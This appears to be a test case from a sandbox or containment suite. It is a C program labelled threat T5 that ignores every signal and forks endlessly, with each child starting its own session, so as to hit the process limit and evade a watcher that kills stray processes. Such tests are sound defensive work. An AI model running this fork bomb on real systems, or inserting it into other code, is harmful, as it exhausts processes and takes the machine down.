// threat: T5; ends: process-limit
// Doubles without end, each child in a session of its own; the watcher counts and kills all that is not the stage.
#include "attack.h"

int main(void) {
    for (int number = SIGHUP; number < SIGRTMAX; number++) signal(number, SIG_IGN);
    for (;;)
        if (fork() == 0) setsid();
}
